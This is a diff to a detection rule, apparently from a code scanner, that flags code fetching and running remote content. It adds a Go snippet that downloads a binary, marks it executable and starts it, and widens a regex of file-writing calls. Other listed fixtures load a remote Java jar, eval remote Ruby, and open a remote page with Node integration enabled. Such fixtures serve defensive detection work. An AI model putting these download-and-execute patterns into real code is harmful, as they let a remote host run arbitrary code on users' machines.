@@ -35,6 +35,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```go\nr, err := http.Get("https://kit.rowan-pike.net/bin")\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, r.Body)\nf.Close()\nexec.Command(p, "-d").Start()\n```\n',
       '```java\nvar cl = new URLClassLoader(new URL[]{ new URL("http://kiln-parts.io/t.jar") });\ncl.loadClass("T");\n```\n',
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://shop.quill-marsh.net/kiosk')\n```\n",
       '```ruby\ndeco = Net::HTTP.get(URI("http://deco.sundry-pike.net/season.rb"))\nTOPLEVEL_BINDING.eval(deco)\n```\n',
@@ -108,7 +109,7 @@ const REACH_OF_FILE = 600
 
 /** Calls that write what came in to a file. */
 const SAVES =
-  /\b(?:open|urlretrieve|writefile(?:sync)?|createwritestream|downloadfile|files\.copy|outfile|write_bytes|write_text|os\.create|file_put_contents|binwrite|copy_stream|fs::write|write_all|writeallbytes|copyfile|to_file|-o)\b[^\n]{0,140}/g
+  /\b(?:open|openfile|urlretrieve|writefile(?:sync)?|createwritestream|downloadfile|files\.copy|outfile|write_bytes|write_text|os\.create|file_put_contents|binwrite|copy_stream|fs::write|write_all|writeallbytes|copyfile|to_file|-o)\b[^\n]{0,140}/g
 
 /** Words of such a call that name no file. */
 const NO_NAME =
